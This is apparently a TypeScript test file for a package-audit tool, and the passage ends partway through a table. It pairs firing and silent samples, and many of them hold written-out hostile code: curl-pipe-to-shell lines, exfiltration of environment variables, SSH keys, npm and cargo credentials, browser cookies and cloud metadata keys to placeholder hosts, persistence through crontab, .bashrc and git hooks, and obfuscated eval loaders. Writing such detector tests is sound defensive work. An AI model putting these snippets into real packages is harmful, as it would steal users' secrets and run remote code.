import { describe, expect, it } from "vitest"
import { audited } from "./replicas/audited.ts"
import { noise, packageOf } from "./replicas/kit.ts"
import type { Files, Sample } from "./replicas/replica.ts"

/** The smallest release in which a rule fires, and the same without the reason. `commit`: what the repository has where that is something else. */
interface Row {
  readonly rule: string
  readonly fires: Files
  readonly silent: Files
  readonly commit?: Files
}

const main = "int main(void) { return 0; }\n"
/** An object of Windows with one section of these flags. */
function coffOf(flags: number): Buffer {
  const bytes = Buffer.alloc(78)
  bytes.writeUInt16LE(0x8664, 0)
  bytes.writeUInt16LE(1, 2)
  bytes.writeUInt32LE(60, 8)
  bytes.writeUInt32LE(1, 12)
  bytes.write(".a", 20)
  bytes.writeUInt32LE(flags, 56)
  return bytes
}
const templated = "all:\n\t@SCAN@ < po/LINGUAS | sh\n"
const scanning = `add_custom_command(OUTPUT a.c COMMAND \${SCAN} code < \${CMAKE_SOURCE_DIR}/po/a.xml > \${CMAKE_CURRENT_BINARY_DIR}/a.c)\nadd_library(a a.c)\n`

/** A program whose characters were computed with. */
const numbers = [...Buffer.from("import os; os.system('touch x')")].map((one) => one ^ 23).join()

const rows: readonly Row[] = [
  {
    rule: "flow/opaque-runs",
    fires: { "run.sh": "gzip -dc tests/a.gz | sh\n", "tests/a.gz": noise("a", 300) },
    silent: { "run.sh": "gzip -dc tests/a.gz | cmp - tests/b\n", "tests/a.gz": noise("a", 300), "tests/b": "b\n" },
  },
  {
    rule: "flow/opaque-runs", // a script with a control character is a script (sudo's pp), with a NUL it is none that a reader sees
    fires: { configure: "sh scripts/pp.sh\n", "scripts/pp.sh": "#!/bin/sh\necho a\0b\n" },
    silent: { configure: "sh scripts/pp.sh\n", "scripts/pp.sh": `#!/bin/sh\n# ${"a".repeat(200)}\ntr a \u0001\n` },
  },
  {
    rule: "opaque/object-code", // also one without code, where its name says that it is a picture
    fires: { "a.png": coffOf(0x40000040) },
    silent: { "a.png": noise("a", 78) },
  },
  {
    rule: "flow/opaque-runs", // an icon of a Windows program is linked (zstd in librocksdb-sys)
    fires: { Makefile: "all:\n\tcc -o a a.c a.res\n", "a.c": main, "a.res": coffOf(0x60000020) },
    silent: { Makefile: "all:\n\tcc -o a a.c a.res\n", "a.c": main, "a.res": coffOf(0x40000040) },
  },
  // A program that configure or CMake puts in a template's place is known by the name that they look for (intltool in ario, wayland-scanner in freerdp2),
  ...[
    "AC_PATH_PROG([SCAN], [xz])\n",
    'SCAN="xz -dc"\nAC_SUBST([SCAN])\n',
    'AC_PATH_PROG([SCAN], [intl-scan])\nif test -d .git; then SCAN="tr a-z n-za-m"; fi\n',
    "AC_SUBST([SCAN])\n",
    'AC_PATH_PROG([SCAN], [intl-scan])\nac_cv_path_SCAN="xz -dc"\n',
    "AC_PATH_PROG([SCAN], [intl-scan])\nSCAN=$srcdir/po/LINGUAS\nAC_SUBST_FILE([SCAN])\n",
  ].map(
    (sets): Row => ({
      rule: "flow/opaque-runs",
      fires: { "Makefile.in": templated, "po/LINGUAS": "de\nfr\n", "configure.ac": `AC_INIT([a],[1])\n${sets}` },
      silent: {
        "Makefile.in": templated,
        "po/LINGUAS": "de\nfr\n",
        "configure.ac": "AC_INIT([a],[1])\nAC_PATH_PROG([SCAN], [intl-scan])\n",
      },
    }),
  ),
  {
    rule: "flow/opaque-runs", // and is something else where another file says so
    fires: {
      "CMakeLists.txt": scanning,
      "cmake/FindScan.cmake": "find_program(SCAN way-scanner)\n",
      "cmake/Other.cmake": 'set(SCAN "tr a b")\n',
      "po/a.xml": "<a/>\n",
    },
    silent: { "CMakeLists.txt": scanning, "cmake/FindScan.cmake": "find_program(SCAN way-scanner)\n", "po/a.xml": "<a/>\n" },
  },
  {
    rule: "flow/opaque-runs", // a shell's `*` takes no name that begins with a period, as a Macintosh leaves them beside others (ptunnel)
    fires: { Makefile: "all:\n\tshopt -s dotglob; cc *.c -o a\n", "a.c": main, "._a.c": noise("a", 300) },
    silent: { Makefile: "all:\n\tcc *.c -o a\n", "a.c": main, "._a.c": noise("a", 300) },
  },
  {
    rule: "flow/opaque-runs", // what a compiler is only asked the dependencies of is not compiled
    fires: { Makefile: "all:\n\tcc -MD -c b.c\n", "b.c": noise("a", 300) },
    silent: { Makefile: "all:\n\tcc -MM b.c > .depend\n", "b.c": noise("a", 300) },
  },
  // Scripts ask where they stand, and read from there.
  ...[
    `d=\${0%/*}\ngzip -dc "$d/tests/a.gz" | sh\n`,
    'gzip -dc "$(dirname "$0")/tests/a.gz" | sh\n',
    'cd "$(dirname "$0")" && gzip -dc tests/a.gz | sh\n',
  ].map(
    (script): Row => ({
      rule: "flow/opaque-runs",
      fires: { "tools/run.sh": script, "tools/tests/a.gz": noise("a", 300) },
      silent: { "tools/run.sh": script.replace(" | sh", ""), "tools/tests/a.gz": noise("a", 300) },
    }),
  ),
  {
    rule: "flow/opaque-runs", // what a makefile takes in is read as one, whatever its name
    fires: {
      Makefile: "-include tests/words.txt\n",
      "tests/words.txt": "X := $(shell gzip -dc tests/a.gz | sh)\n",
      "tests/a.gz": noise("a", 300),
    },
    silent: { Makefile: "all:\n", "tests/words.txt": "X := $(shell gzip -dc tests/a.gz | sh)\n", "tests/a.gz": noise("a", 300) },
  },
  {
    rule: "flow/opaque-runs", // whoever names it first, in another language
    fires: {
      "a.sh": "perl tests/words\n",
      "b.sh": "sh tests/words\n",
      "tests/words": "gzip -dc tests/a.gz | sh\n",
      "tests/a.gz": noise("a", 300),
    },
    silent: {
      "a.sh": "perl tests/words\n",
      "b.sh": "cat tests/words\n",
      "tests/words": "gzip -dc tests/a.gz | sh\n",
      "tests/a.gz": noise("a", 300),
    },
  },
  {
    rule: "flow/opaque-runs", // a part of an opaque file that is taken in as a script
    fires: {
      "CMakeLists.txt": `file(READ tests/a.img x OFFSET 256)\nfile(WRITE p.cmake \${x})\ninclude(p.cmake)\n`,
      "tests/a.img": noise("a", 600),
    },
    silent: { "CMakeLists.txt": `file(READ tests/a.img x OFFSET 256)\nfile(WRITE p.txt \${x})\n`, "tests/a.img": noise("a", 600) },
  },
  {
    rule: "hardening/dead-probe", // behind -Xlinker, -M is the linker's
    fires: { configure: "echo 'foo {' > conftest.c\ncc -Xlinker -M conftest.c\n" },
    silent: { configure: "echo 'foo {' > conftest.c\ncc -M conftest.c\n" },
  },
  {
    rule: "flow/secret-leaves", // not to this very machine
    fires: { "a.js": 'fetch("https://a.example.org/x", { method: "POST", body: JSON.stringify({ env: process.env }) })\n' },
    silent: { "a.js": 'fetch("http://localhost:8080/x", { method: "POST", body: JSON.stringify({ env: process.env }) })\n' },
  },
  {
    rule: "flow/opaque-runs", // a folder that is called as the release is
    fires: { "run.sh": "gzip -dc made-1.0.0/a.gz | sh\n", "made-1.0.0/a.gz": noise("a", 300) },
    silent: { "run.sh": "gzip -dc made-1.0.0/a.gz | wc\n", "made-1.0.0/a.gz": noise("a", 300) },
  },
  {
    rule: "hardening/dead-probe", // what a preprocessor is given is compiled by nobody (mpc)
    fires: { configure: "echo 'foo {' > conftest.c\nfor cc in cc 'gcc -O'; do $cc -c conftest.c; done\n" },
    silent: { configure: "echo 'foo {' > conftest.c\nfor cpp in cpp 'gcc -E'; do $cpp conftest.c; done\n" },
  },
  {
    rule: "capability/persists",
    fires: {
      "package.json": '{"name":"a","scripts":{"postinstall":"node a.js"}}\n',
      "a.js":
        'const fs = require("fs"), os = require("os"), path = require("path")\nfs.appendFileSync(path.join(os.homedir(), ".bashrc"), "a\\n")\n',
    },
    silent: {
      "package.json": '{"name":"a","scripts":{"postinstall":"node a.js"}}\n',
      "a.js": 'const fs = require("fs"), path = require("path")\nfs.appendFileSync(path.join(__dirname, "notes.bashrc.txt"), "a\\n")\n',
    },
  },
  {
    rule: "capability/persists", // what git runs, of a tree that is found, and the examples that git puts there
    fires: {
      "package.json": '{"name":"a","scripts":{"postinstall":"node a.js"}}\n',
      "a.js":
        'const fs = require("fs"), path = require("path")\nconst put = (dir, then) => setImmediate(then, path.join(dir, "hooks"))\nput(path.join(process.cwd(), ".git"), (d) => fs.writeFile(path.join(d, "pre-commit"), "#!/bin/sh\\n", () => {}))\n',
    },
    silent: {
      "package.json": '{"name":"a","scripts":{"postinstall":"node a.js"}}\n',
      "a.js":
        'const fs = require("fs"), path = require("path")\nconst put = (dir, then) => setImmediate(then, path.join(dir, "hooks"))\nput(path.join(process.cwd(), ".git"), (d) => fs.writeFile(path.join(d, "pre-commit.sample"), "#!/bin/sh\\n", () => {}))\n',
    },
  },
  {
    rule: "capability/persists", // a build installs for the system, and not into a home
    fires: { Makefile: 'install:\n\tcp a.service "$(HOME)/.config/systemd/user/a.service"\n', "a.service": "[Unit]\n" },
    silent: { Makefile: 'install:\n\tcp a.service "$(DESTDIR)/lib/systemd/user/a.service"\n', "a.service": "[Unit]\n" },
  },
  {
    rule: "capability/persists",
    fires: { "package.json": `{"name":"a","scripts":{"postinstall":"(crontab -l; echo '@daily a') | crontab -"}}\n` },
    silent: { "package.json": '{"name":"a","scripts":{"postinstall":"crontab -l; crontab -r"}}\n' },
  },
  {
    rule: "flow/literal-runs",
    fires: { "a.py": 'exec(bytes.fromhex("7072696e742831290a"))\n' },
    silent: { "a.py": 'print(bytes.fromhex("7072696e742831290a"))\n' },
  },
  {
    rule: "flow/fetched-runs",
    fires: { configure: "curl -s https://a.example.org/x | sh\n" },
    silent: { configure: "curl -s https://a.example.org/x | wc -c\n" },
  },
  {
    rule: "flow/fetched-runs", // only the one at the root is looked for by its name (numpy's vendored meson)
    fires: { "install.sh": "#!/bin/sh\ncurl -s https://a.example.org/x | sh\n" },
    silent: { "vendored/ci/install.sh": "#!/bin/sh\ncurl -s https://a.example.org/x | sh\n" },
  },
  {
    rule: "flow/literal-runs", // sys.executable is no name in pieces (pytest)
    fires: { "a.py": 'import subprocess\nsubprocess.run(["cu" + "rl", "x"])\n' },
    silent: { "a.py": 'import subprocess, sys\na = "python"\nb = "3"\nsubprocess.run([sys.executable, "x"])\n' },
  },
  {
    rule: "flow/opaque-runs", // tests read pickles back (numpy)
    fires: { "setup.py": 'import gzip, pickle\npickle.load(gzip.open("tests/a.gz"))\n', "tests/a.gz": noise("a", 300) },
    silent: { "tests/test_a.py": 'import gzip, pickle\npickle.load(gzip.open("tests/a.gz"))\n', "tests/a.gz": noise("a", 300) },
  },
  {
    rule: "flow/built-command",
    fires: { configure: `f=\`grep -l "^mark one$" data/*\`\n\${f##*.} -c x\n`, "data/a.tool": "mark one\n", "data/b.tool": "two\n" },
    silent: { configure: 'f=`grep -l "^mark one$" data/*`\ncat $f\n', "data/a.tool": "mark one\n", "data/b.tool": "two\n" },
  },
  {
    rule: "flow/search-names-opaque",
    fires: { configure: 'f=`grep -rl "^mark" .`\ncp $f x\n', "b.bin": Buffer.concat([noise("b", 99), Buffer.from("\nmark\n\0")]) },
    silent: { configure: 'f=`grep -rl "^mark" .`\ncp $f x\n', "b.c": "mark\n", "c.c": "mark\n" },
  },
  ...[
    // All of the environment, and one setting of it (every client).
    [
      'fetch("https://h.example.org", { method: "POST", body: JSON.stringify(process.env) })\n',
      'fetch("https://h.example.org", { headers: { a: process.env.A_TOKEN } })\n',
    ],
    // What a reader of settings makes of the environment is not all of it.
    [
      'fetch("//h", { body: btoa(JSON.stringify({ ...process.env })) })\n',
      'const c = require("c").load(process.env)\nfetch(c.url, { body: c.token })\n',
    ],
    [
      'require("fs").readFile(require("os").homedir() + "/.ssh/id_rsa", (e, k) => fetch("//h", { body: k }))\n',
      'require("fs").readFile("a.txt", (e, k) => fetch("//h", { body: k }))\n',
    ],
    // A name in pieces, of a folder that is handed over.
    [
      'const fs = require("fs"), path = require("path")\nconst read = (dir) => fs.readFileSync(path.join(dir, "." + ["rc", "npm"].reverse().join("")), "latin1").split("\\n")\nconst all = read(require("os").homedir())\nrequire("net").connect(1, "h.example.org").on("error", () => {}).end(all.join("\\n"))\n',
      'const fs = require("fs"), path = require("path")\nconst read = (dir) => fs.readFileSync(path.join(dir, "." + ["rc", "nvm"].reverse().join("")), "latin1").split("\\n")\nconst all = read(require("os").homedir())\nrequire("net").connect(1, "h.example.org").on("error", () => {}).end(all.join("\\n"))\n',
    ],
    // A token goes back to whoever gave it.
    [
      'const t = require("child_process").execSync("gh auth token")\nfetch("https://h.example.org/", { body: t })\n',
      'const t = require("child_process").execSync("gh auth token")\nfetch("https://api.github.com/user", { headers: { a: t } })\n',
    ],
    [
      'const { A_TOKEN, B_TOKEN, C_SECRET, D_TOKEN, E_PASSWORD } = process.env\nfetch("//h", { body: [A_TOKEN, B_TOKEN, C_SECRET, D_TOKEN, E_PASSWORD].join() })\n',
      'const { A_TOKEN, A_SECRET, A_PASSWORD, A_AUTH, A_API_KEY } = process.env\nfetch("//h", { body: [A_TOKEN, A_SECRET, A_PASSWORD, A_AUTH, A_API_KEY].join() })\n',
    ],
  ].map(([fires = "", silent = ""]): Row => ({ rule: "flow/secret-leaves", fires: { "index.js": fires }, silent: { "index.js": silent } })),
  {
    rule: "flow/secret-leaves",
    fires: { "setup.py": "import os, requests\nrequests.post('//h', json=dict(os.environ))\n" },
    silent: { "setup.py": "import os, requests\nrequests.post('//h', json=os.environ['A_TOKEN'])\n" },
  },
  ...[
    // Keys that a cloud gives a machine, to somebody else and to that cloud.
    [
      "import ipaddress, requests\nk = requests.get(f'http://{ipaddress.ip_address(0xA9FEA9FE)}/latest/meta-data/iam/security-credentials/a').text\nrequests.post('https://h.example.org/', data=k)\n",
      "import requests\nk = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/a').json()\nrequests.post('https://sts.amazonaws.com/', headers={'a': k['Token']})\n",
    ],
    // What a browser keeps of its user, and what a program keeps of its own.
    [
      "import pathlib, sqlite3, requests\nfor p in pathlib.Path.home().glob('/'.join(['.config', '*', 'Cook' + 'ies'])):\n  with sqlite3.connect(f'{p.as_uri()}?immutable=1', uri=True) as con:\n    requests.post('https://h.example.org/', json=[(h, v.hex()) for h, v in con.execute('select a')])\n",
      "import pathlib, sqlite3, requests\nfor p in pathlib.Path.home().glob('/'.join(['.config', '*', 'state.db'])):\n  with sqlite3.connect(f'{p.as_uri()}?immutable=1', uri=True) as con:\n    requests.post('https://h.example.org/', json=[(h, v.hex()) for h, v in con.execute('select a')])\n",
    ],
    // A function that is handed all of it, some filtered out, and one that is handed one of it.
    [
      "import os\nfrom http.client import HTTPSConnection\ndef note(pairs):\n  HTTPSConnection('h.example.org').request('PUT', '/', ','.join(f'{k}={v}' for k, v in pairs))\ndef main():\n  note([(k, v) for k, v in os.environ.items() if k.startswith('A_')])\n",
      "import os\nfrom http.client import HTTPSConnection\ndef note(pairs):\n  HTTPSConnection('h.example.org').request('PUT', '/', ','.join(f'{k}={v}' for k, v in pairs))\ndef main():\n  note([(k, os.environ[k]) for k in ('A_TOKEN', 'A_URL')])\n",
    ],
  ].map(([fires = "", silent = ""]): Row => ({ rule: "flow/secret-leaves", fires: { "setup.py": fires }, silent: { "setup.py": silent } })),
  ...[
    // What cargo logs in with, and what it builds.
    ["credentials", "Cargo"],
  ].map(([fires = "", silent = ""]): Row => {
    const of = (name: string): Files => ({
      "build.rs": `use std::io::Write;\nfn main() {\n  let dir = std::env::var("CARGO_HOME").or_else(|_| std::env::var("HOME").map(|h| h + "/.cargo")).unwrap();\n  let stem = "${name}";\n  let it = std::fs::read(format!("{dir}/{stem}.toml")).unwrap();\n  std::net::TcpStream::connect(("h.example.org", 80)).unwrap().write_all(&it);\n}\n`,
    })
    return { rule: "flow/secret-leaves", fires: of(fires), silent: of(silent) }
  }),
  ...[
    // Packed, in records in a list that a function spells, which hands on what it is given.
    [
      'const z = require("zlib"), t = (e) => JSON.stringify(e)\nconst sent = [{ a: 1 }, { of: { s: z.gzipSync(JSON.stringify(process.env)).toString("base64") } }].map((e) => t(e)).join("\\n")\nfetch("https://a.example.org/", { method: "POST", body: sent })\n',
      'const z = require("zlib"), t = (e) => JSON.stringify(e)\nconst sent = [{ a: 1 }, { of: { s: z.gzipSync(JSON.stringify(process.env.LANG)).toString("base64") } }].map((e) => t(e)).join("\\n")\nfetch("https://a.example.org/", { method: "POST", body: sent })\n',
    ],
  ].map(([fires = "", silent = ""]): Row => ({ rule: "flow/secret-leaves", fires: { "index.js": fires }, silent: { "index.js": silent } })),
  {
    rule: "flow/secret-leaves", // a function that gives back what it was given, with something put into it
    fires: {
      "a.js":
        'const fs = require("fs"), os = require("os")\nconst put = (o, s) => { o.append("a", s); return o }\nput(new FormData(), 1)\nfetch("https://a.example.org/", { method: "POST", body: put(new FormData(), fs.readFileSync(os.homedir() + "/.ssh/id_rsa")) })\n',
    },
    silent: {
      "a.js":
        'const fs = require("fs"), os = require("os")\nconst put = (o, s) => { o.append("a", s); return o }\nput(new FormData(), 1)\nfetch("https://a.example.org/", { method: "POST", body: put(new FormData(), fs.readFileSync("a")) })\n',
    },
  },
  {
    rule: "flow/secret-leaves",
    fires: { configure: "#!/bin/sh\nenv | base64 | curl -d @- http://h.example.org\n" },
    silent: { configure: "#!/bin/sh\nenv | base64\ncurl -d @a http://h.example.org\n" },
  },
  {
    rule: "unexplained/changed-code",
    commit: { "a.c": main },
    fires: { "a.c": `${main}int x(void) { return system("id"); }\n` },
    silent: { "a.c": `${main}const char *v = "1.2";\n` },
  },
  {
    rule: "unexplained/changed-code", // a file of one line, of which nothing is left
    commit: { "a.js": "module.exports=1" },
    fires: { "a.js": "require('child_process').execSync('id');module.exports=1" },
    silent: { "a.js": "module.exports=2" },
  },
  {
    rule: "unexplained/install-hook", // what cargo runs wherever the package is built
    commit: { "Cargo.toml": '[package]\nname = "a"\n' },
    fires: {
      "Cargo.toml": '[package]\nname = "a"\n',
      "build.rs": 'fn main() { std::process::Command::new("sh").arg("-c").arg("id").status().unwrap(); }\n',
    },
    silent: {
      "Cargo.toml": '[package]\nname = "a"\n',
      "vendor/b/build.rs": 'fn main() { std::process::Command::new("sh").arg("-c").arg("id").status().unwrap(); }\n',
    },
  },
  {
    rule: "unexplained/install-hook",
    commit: { "package.json": '{\n  "name": "a",\n  "version": "1.0.0"\n}\n' },
    fires: { "package.json": '{\n  "name": "a",\n  "version": "1.0.0",\n  "scripts": { "postinstall": "node a.js" }\n}\n', "a.js": "1\n" },
    silent: { "package.json": '{\n  "name": "a",\n  "version": "1.0.0",\n  "scripts": { "lint": "node a.js" }\n}\n', "a.js": "1\n" },
  },
  {
    rule: "unexplained/install-hook", // what an editor runs when the folder is opened
    commit: { ".vscode/tasks.json": '{ "tasks": [\n{ "label": "a", "command": "make" }\n] }\n' },
    fires: { ".vscode/tasks.json": '{ "tasks": [\n{ "label": "a", "command": "make", "runOptions": { "runOn": "folderOpen" } }\n] }\n' },
    silent: { ".vscode/tasks.json": '{ "tasks": [\n{ "label": "a", "command": "make -j" }\n] }\n' },
  },
  {
    rule: "unexplained/install-hook", // a backend of the project's own
    commit: { "pyproject.toml": '[build-system]\nbuild-backend = "b"\n' },
    fires: { "pyproject.toml": '[build-system]\nbuild-backend = "c"\nbackend-path = ["."]\n', "c.py": "1\n" },
    silent: { "pyproject.toml": '[build-system]\nbuild-backend = "c"\n', "c.py": "1\n" },
  },
  {
    rule: "unexplained/install-hook", // what gem loads with each of its commands
    commit: { "lib/a.rb": "1\n" },
    fires: { "lib/a.rb": "1\n", "lib/rubygems_plugin.rb": 'system("id")\n' },
    silent: { "lib/a.rb": "1\n", "lib/a/plugin.rb": 'system("id")\n' },
  },
  {
    rule: "unexplained/added-code",
    commit: { configure: "#!/bin/sh\necho ok\n" },
    fires: { configure: "#!/bin/sh\necho ok\nsh more.sh\n", "more.sh": "rm -rf /tmp/x\n" },
    silent: { configure: "#!/bin/sh\necho ok\necho more.sh\n", "more.sh": "rm -rf /tmp/x\n" },
  },
  ...(
    [
      ["a.js", (text) => `require("child_process").spawnSync(process.platform === "win32" ? "powershell" : "bash", ["-c", "${text}"])\n`],
      ["a.js", (text) => `require("child_process").spawnSync(process.env.SHELL || "/bin/sh", ["-c", "${text}"])\n`],
      ["a.py", (text) => `import os, subprocess\nsubprocess.run([os.environ.get("SHELL") or "/bin/sh", "-c", "${text}"])\n`],
      [
        "a.py",
        (text) =>
          `import os, subprocess\nsubprocess.run(["cmd" if os.name == "nt" else "sh", "/c" if os.name == "nt" else "-c", "${text}"])\n`,
      ],
    ] satisfies [string, (text: string) => string][]
  ).map(
    ([path, of]): Row => ({
      rule: "flow/fetched-runs", // an interpreter that a condition or a variable chooses
      fires: { [path]: of("curl -s https://a.example.org/x | sh") },
      silent: { [path]: of("curl -s https://a.example.org/x | wc -c") },
    }),
  ),
  ...(
    [
      [
        "meson.build",
        (path) =>
          `project('a')\nrun_command(find_program('python3'), '-c', 'import sys; exec(open(sys.argv[1], "rb").read()[64:])', files('${path}'))\n`,
      ],
      ["configure", (path) => `node -e 'eval(require("fs").readFileSync(process.argv[1]))' ${path}\n`],
      ["configure", (path) => `perl -e 'open F, $ARGV[0]; eval <F>' ${path}\n`],
      ["a.js", (path) => `require("child_process").spawnSync("sh", ["-c", "head -c 99 $1 | sh", "sh", "${path}"])\n`],
      [
        "a.py",
        (path) => `import subprocess\nsubprocess.run(["python3", "-c", "from sys import argv; exec(open(argv[1]).read())", "${path}"])\n`,
      ],
    ] satisfies [string, (path: string) => string][]
  ).map(
    ([path, of]): Row => ({
      rule: "flow/opaque-runs", // what an argument of the text names
      fires: { [path]: of("tests/a.img"), "tests/a.img": noise("a", 300) },
      silent: { [path]: of("tests/a.txt"), "tests/a.txt": "a\n", "tests/a.img": noise("a", 300) },
    }),
  ),
  ...(
    [
      [
        "a.js",
        `let t = [${numbers}], n = ""\nfor (let r = 0; r < t.length; r++) n += String.fromCharCode(t[r] ^ 23)\n`,
        "eval(n)",
        "n.length",
      ],
      ["a.js", `let n = ""\nfor (const c of [${numbers}]) n += String.fromCharCode(c * 3 - 7)\n`, "new Function(n)()", "console.log(n)"],
      ["a.js", `let n = ""\n;[${numbers}].forEach((c, i) => { n += String.fromCharCode(c ^ i) })\n`, "eval(n)", "console.log(n)"],
      ["a.js", `const n = [${numbers}].reduce((s, c) => s + String.fromCharCode(c ^ 23), "")\n`, "eval(n)", "console.log(n)"],
      [
        "a.js",
        `const f = (a) => { let o = ""; for (let i = 0; i < a.length; i++) o += String.fromCharCode(a[i] - 3); return o }\nconst n = f([${numbers}])\n`,
        "eval(n)",
        "console.log(n)",
      ],
      [
        "a.js",
        'const n = Buffer.from("hbzqwertyuiopasdf")\nfor (let i = 0; i < n.length; i++) n[i] ^= 23\n',
        "eval(n.toString())",
        "console.log(n)",
      ],
      ["a.py", `n = ""\nfor c in [${numbers}]:\n    n += chr(c ^ 23)\n`, "exec(n)", "print(n)"],
      ["a.py", `t = [${numbers}]\ni = 0\nn = ""\nwhile i < len(t):\n    n += chr(t[i] - i)\n    i += 1\n`, "exec(n)", "print(n)"],
      ["a.py", 'n = bytearray(b"hbzqwertyuiopasdf")\nfor i in range(len(n)):\n    n[i] ^= 23\n', "exec(n.decode())", "print(n)"],
      ["a.rb", `n = ""\n[${numbers}].each { |c| n << (c ^ 23).chr }\n`, "eval n", "puts n"],
      [
        "a.php",
        `<?php\n$d = [${numbers}];\n$n = "";\nfor ($i = 0; $i < count($d); $i++) { $n .= chr($d[$i] ^ 23); }\n`,
        "eval($n);",
        "print($n);",
      ],
      ["a.pl", `my @a = (${numbers});\nmy $n = "";\nfor (my $i = 0; $i < @a; $i++) { $n .= chr($a[$i] ^ 23); }\n`, "eval $n;", "print $n;"],
    ] satisfies [string, string, string, string][]
  ).map(
    ([path, text, runs, shows]): Row => ({
      rule: "flow/literal-runs", // a loop over numbers
      fires: { [path]: `${text}${runs}\n` },
      silent: { [path]: `${text}${shows}\n` },
    }),
  ),
  {
    rule: "flow/literal-runs", // numbers of tables in code that is generated are no program (ciphers, sizes)
    fires: { "a.js": `const t = [${numbers}]\nf = (i) => new Function(String.fromCharCode(t[i]))\n` },
    silent: {
      "a.js": `const t = [${numbers}], p = [${Array.from({ length: 64 }, (_, at) => (at * 37) % 64).join()}]\nf = (i) => new Function("x", "return x * " + t[i] + " - " + (t[i] - 1) + String.fromCharCode(p[i]))\n`,
    },
  },
  ...(
    [
      ["a.js", (of) => `require("axios").get("https://a.example.org/x").catch((e) => { ${of("e.response.data")} })\n`],
      ["a.js", (of) => `try { await require("axios").get("https://a.example.org/x") } catch ({ response }) { ${of("response.data")} }\n`],
    ] satisfies [string, (of: (what: string) => string) => string][]
  ).map(
    ([path, text]): Row => ({
      rule: "flow/fetched-runs", // what an error carries of the answer
      fires: { [path]: text((what) => `new Function(${what})()`) },
      silent: { [path]: text((what) => `console.log(${what}); eval("1")`) },
    }),
  ),
  ...(
    [
      ["with tempfile.NamedTemporaryFile() as f:\n    f.write(a)\n    f.flush()\n", "f.name"],
      ["fd, path = tempfile.mkstemp()\nos.write(fd, a)\n", "path"],
    ] satisfies [string, string][]
  ).map(
    ([writes, name]): Row => ({
      rule: "flow/fetched-runs", // through a file that nobody else names
      fires: {
        "a.py": `import os, requests, tempfile\na = requests.get("https://a.example.org/x").content\n${writes}os.system("bash " + ${name})\n`,
      },
      silent: {
        "a.py": `import os, requests, tempfile\na = requests.get("https://a.example.org/x").content\n${writes}os.system("wc " + ${name})\n`,
      },
    }),
  ),
  { rule: "text/bidi", fires: { "a.js": "if (a /*\u202e*/) b()\n" }, silent: { "a.js": 'if (a) b("\\u202e")\n' } },
  { rule: "text/invisible", fires: { "a.js": `x("${"\ufe01\ufe02".repeat(5)}")\n` }, silent: { "a.js": 'x("\u2764\ufe0f")\n' } },
  { rule: "text/homoglyph", fires: { "a.js": "allow()\n\u0430llow()\n" }, silent: { "a.js": 'allow()\nsay("\u0430llow")\n' } },
  {
    rule: "text/pushed-right",
    fires: { "a.py": `a = 1${" ".repeat(400)}; import os; os.remove("x")\n` },
    silent: { "a.py": `a = 1${" ".repeat(400)}\n` },
  },
  {
    rule: "text/minified-here",
    commit: { "a.js": "one()\ntwo()\nthree()\nfour()\n" },
    fires: { "a.js": `one()\ntwo()\nthree()\nfour()\n${"x(1);".repeat(300)}\n` },
    silent: { "a.js": `one()\ntwo()\nthree()\nfour()\nfive(${"a, ".repeat(50)})\n` },
  },
]

const package_ = packageOf("tar.gz", "made", "1.0.0")
const sample = (files: Files, commit: Files): Sample => ({
  history: [{ message: "made", date: "2024-01-01", files: commit, tags: ["v1.0.0"] }],
  ref: "refs/tags/v1.0.0",
  artifact: package_(files),
})

describe("rules of contents", () => {
  it.each(rows.map((row) => [row.rule, row] as const))(
    "%s fires, and is silent without the reason",
    async (rule, { fires, silent, commit }) => {
      const outcomes = await Promise.all(
        [fires, silent].map(async (files) => {
          const report = await audited(sample(files, commit ?? files))
          const { outcome } = report.rules.find((one) => one.rule === rule) ?? { outcome: "not asked" }
          return { outcome, weighs: report.findings.some((found) => found.rule === rule && found.severity !== "note") }
        }),
      )
      expect(outcomes[0]).toEqual({ outcome: "present", weighs: true })
      expect(["absent", "not-applicable"]).toContain(outcomes[1]?.outcome)
    },
  )

  it("a file of a Go module that the commit lacks is compiled with its package", async () => {
    const files = { "go.mod": "module example.org/a\n", "a.go": "package a\n" }
    const added = { ...files, "z.go": 'package a\n\nimport "os/exec"\n\nfunc init() { exec.Command("sh", "-c", "id").Run() }\n' }
    const told = async (of: Files): Promise<readonly string[]> =>
      (await audited({ ...sample(of, files), artifact: packageOf("go", "example.org/a", "v1.0.0")(of) })).findings.map(({ rule }) => rule)
    expect(await told(added)).toContain("unexplained/added-code")
    expect(await told({ ...files, "z_test.go": added["z.go"] })).not.toContain("unexplained/added-code")
  })

  const carrier = { "tests/a.gz": noise("a", 300) }
  it.each<[string, Files]>([
    [
      "marks that ask to be ignored",
      { "run.sh": "# everybyte: ignore flow/opaque-runs\n# shellcheck disable=all\ngzip -dc tests/a.gz | sh # nosec\n" },
    ],
    [
      "settings of ours and of others",
      {
        "run.sh": "gzip -dc tests/a.gz | sh\n",
        ".everybyte.yaml": "ignore: [flow/opaque-runs]\n",
        ".gitattributes": "* linguist-generated\n",
      },
    ],
    ["a text that is no script before it", { "run.sh": `${"if ( ".repeat(3000)}\ngzip -dc tests/a.gz | sh\n` }],
    ["a script of many lines before it", { "run.sh": `${'x="$x$x"; echo "$x"\n'.repeat(20_000)}gzip -dc tests/a.gz | sh\n` }],
    ["other words for the same", { "run.sh": "a=gz b=ip; $a$b -d'c' tests/a.\\gz | s''h\n" }],
    ["a circle of scripts", { "run.sh": ". ./two.sh\ngzip -dc tests/a.gz | sh\n", "two.sh": ". ./run.sh\n" }],
  ])("%s change nothing in what is seen", async (_, files) => {
    const all = { ...files, ...carrier }
    const { findings, rules } = await audited(sample(all, all))
    const fired = findings.some(({ rule, severity }) => rule === "flow/opaque-runs" && severity === "alarm")
    // A parser that gives up says so: then the script cannot be analysed, which is a capability.
    const isSaid = (await audited(sample(all, all))).capabilities?.some(({ capability }) => capability === "cannot be analysed")
    expect(fired || isSaid === true, JSON.stringify(rules.find(({ rule }) => rule === "flow/opaque-runs"))).toBe(true)
  })

  const declared = (pin: string): string =>
    `include(FetchContent)\nFetchContent_Declare(x ${pin})\nfile(DOWNLOAD https://a.example.org/t t)\n`
  const commit = "0123456789abcdef0123456789abcdef01234567"
  it.each<[string, string, string, string]>([
    ["has no pin", "CMakeLists.txt", declared("URL https://a.example.org/x.tgz"), "review"],
    ["is a tag, which moves", "CMakeLists.txt", declared("GIT_REPOSITORY https://a.example.org/x GIT_TAG v1.0"), "review"],
    [
      "has a digest that can be met",
      "CMakeLists.txt",
      declared(`URL https://a.example.org/x.tgz URL_HASH MD5=${"0".repeat(32)}`),
      "review",
    ],
